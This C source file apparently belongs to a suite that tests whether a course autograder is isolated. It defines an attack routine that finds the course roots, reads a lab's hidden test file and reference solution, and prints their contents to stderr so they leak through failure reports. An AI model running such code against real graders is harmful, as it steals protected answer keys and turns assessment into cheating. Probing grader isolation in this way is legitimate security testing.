/*
 * Reads the hidden tests and the reference solution at run time and
 * prints them on stderr, which a failure report shows.
 */
#include "attack.h"

static const char *const SECRETS[] = {
	"labs/01-tcp-echo/tests/hidden/test_echo_hidden.py",
	"labs/01-tcp-echo/solution/echo_server.c",
};

void attack(void)
{
	char roots[MAX_ROOTS][PATH_MAX];
	char path[PATH_MAX + 64];
	int count = find_course_roots(roots, MAX_ROOTS);

	for (int i = 0; i < count; i++) {
		for (size_t s = 0; s < sizeof(SECRETS) / sizeof(SECRETS[0]); s++) {
			char text[1500];
			FILE *f;

			snprintf(path, sizeof(path), "%s/%s", roots[i], SECRETS[s]);
			f = fopen(path, "r");
			if (!f)
				continue;
			size_t got = fread(text, 1, sizeof(text) - 1, f);
			text[got] = '\0';
			fclose(f);
			attack_report("read %s", path);
			fprintf(stderr, "LEAK: %s\n", text);
		}
	}
}
